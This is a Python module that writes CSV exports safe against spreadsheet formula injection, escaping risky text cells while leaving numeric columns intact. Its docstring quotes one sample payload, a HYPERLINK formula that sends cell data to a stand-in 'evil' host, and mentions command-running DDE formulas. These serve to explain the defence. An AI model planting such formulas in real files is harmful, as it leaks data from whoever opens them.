"""CSV files that are safe to open in a spreadsheet (CSV, or formula, injection).

A caption, a run name or a comment comes from uploaded files and people. A cell that starts with
`=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip before reading a
formula) is run as a formula by Excel, LibreOffice and Google Sheets when the file is opened:
`=HYPERLINK("http://evil/?"&A1, "click")` leaks data, DDE formulas run commands. OWASP's advice is
to prefix such a cell with a single quote, which spreadsheets read as "this is text" and hide.

Numbers are data, not formulas: a score of -0.25 must stay -0.25, or the file can no longer be
read back as numbers. So the rule is decided per column type:

- a Python int, float or Decimal is written as it is (the csv module writes its repr);
- text is escaped when it starts with one of the characters above, except in a column declared
  numeric, where text that is a plain decimal number (e.g. "-0.250000", as reports format their
  figures) is left as it is; any other text there (e.g. "-1+2", "=1") is escaped all the same.

Every CSV the platform writes (exports, report tables, curves.csv, files in archives) goes through
`safe_csv_writer`: tests/annotation/formats/test_csv_safe.py fails on any other csv.writer.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_STARTS)  # the same characters as a set: a text's first one is looked up
# A plain decimal number, as Python and the reports format them; no spaces, no operators inside.
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: Any, *, numeric: bool = False) -> Any:
    """The value to hand to csv.writer for one cell: None becomes empty, numbers stay numbers,
    text that a spreadsheet would run as a formula gets a leading single quote."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text[:1] not in _FORMULA_FIRST:
        return text
    if numeric and _NUMBER.fullmatch(text):
        return text
    return "'" + text


class SafeCsvWriter:
    """csv.writer with every cell passed through `csv_cell`.

    `numeric_columns` names the columns (0-based positions) whose text cells are numbers written
    as text; the header row is always treated as text."""

    def __init__(self, out, *, numeric_columns: Collection[int] = (), **csv_options) -> None:
        csv_options.setdefault("lineterminator", "\n")
        self._out = out
        self._writer = csv.writer(out, **csv_options)
        self._numeric = frozenset(numeric_columns)
        # Pieces of rows (cells_text) the fast way cannot vouch for are written by a second writer
        # of the same dialect into a list, and cut out of the row it writes.
        self._pieces: list[str] = []
        self._piece_writer = csv.writer(_ListSink(self._pieces), **csv_options)
        dialect = self._writer.dialect
        self._delimiter, self._terminator = dialect.delimiter, dialect.lineterminator
        for row in (["x"], ["x", ""], [""]):
            self._piece_writer.writerow(row)
        alone, with_empty, lone_empty = self._pieces
        self._pieces.clear()
        # What a trailing empty cell and the line end add to a row; a row of one empty cell.
        self._trim = len(with_empty) - len(alone) + len(self._terminator)
        self._lone_empty = lone_empty[:-len(self._terminator)]
        # The csv module quotes a cell (QUOTE_MINIMAL) only for the delimiter and these characters
        # (\r and \n whatever the line end: a piece that holds one is only left to the csv module).
        special = {dialect.quotechar, dialect.escapechar, "\r", "\n", *self._terminator} - {None}
        self._needs_quoting = (re.compile("[" + re.escape("".join(sorted(special))) + "]").search
                               if dialect.quoting == csv.QUOTE_MINIMAL and self._delimiter not in special
                               and not self._delimiter.isspace() else None)

    def writeheader(self, columns: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(c) for c in columns])

    def writerow(self, row: Iterable[Any]) -> None:
        # Text that cannot start a formula and ints go out as they are without a call to csv_cell
        # (what csv_cell would return for them): a FIRE-sized labels.csv has 14.6 million cells.
        numeric = self._numeric
        self._writer.writerow([v if (type(v) is str and v[:1] not in _FORMULA_FIRST) or type(v) is int
                               else csv_cell(v, numeric=i in numeric) for i, v in enumerate(row)])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def cells_text(self, cells: Sequence[Any], *, first: int = 0) -> str:
        """The text writerow writes for `cells` as the columns from `first` on, without the line end:
        a piece of a row, for write_pieces. A file whose rows repeat a run of cells (a pair's columns
        on each of its labels' rows) makes that piece once; a cell's text does not depend on the
        cells beside it. Where no cell needs quoting (the common case) the text is made here, as the
        csv module makes it (a float by repr, other numbers by str); otherwise the csv module writes it."""
        if self._numeric:
            numeric = self._numeric
            texts = [_cell_text(v, i in numeric) for i, v in enumerate(cells, start=first)]
        else:
            # csv_cell and the csv module's own text, written out for the common types.
            texts = [v if type(v) is str and v[:1] not in _FORMULA_FIRST else "" if v is None
                     else str(v) if type(v) is int else ("True" if v else "False") if type(v) is bool
                     else repr(v) if type(v) is float else _cell_text(v, False) for v in cells]
        line = self._delimiter.join(texts)
        if (self._needs_quoting is not None and line.count(self._delimiter) == len(texts) - 1
                and not self._needs_quoting(line)):
            return line
        # The cells as writerow hands them over (numbers as numbers: QUOTE_NONNUMERIC tells them
        # apart), and a trailing empty cell, cut off again: one empty cell alone is written quoted.
        numeric = self._numeric
        self._piece_writer.writerow([csv_cell(v, numeric=i in numeric) for i, v in enumerate(cells, start=first)]
                                    + [""])
        return self._pieces.pop()[:-self._trim]

    def write_pieces(self, rows: Iterable[Sequence[str]]) -> None:
        """Writes rows made of cells_text pieces (each a run of one or more cells, in column order),
        in one write to the file."""
        join, end, lone_empty = self._delimiter.join, self._terminator, self._lone_empty
        self._out.write("".join([(join(pieces) or lone_empty) + end for pieces in rows]))


def _cell_text(value: Any, numeric: bool) -> str:
    """A cell's text as csv.writer writes what csv_cell gives it."""
    cell = csv_cell(value, numeric=numeric)
    return cell if isinstance(cell, str) else repr(cell) if isinstance(cell, float) else str(cell)


class _ListSink:
    """A csv.writer target that keeps each written row's text in a list."""

    def __init__(self, parts: list[str]) -> None:
        self.write = parts.append


def safe_csv_writer(out, *, numeric_columns: Collection[int] = (), **csv_options) -> SafeCsvWriter:
    return SafeCsvWriter(out, numeric_columns=numeric_columns, **csv_options)
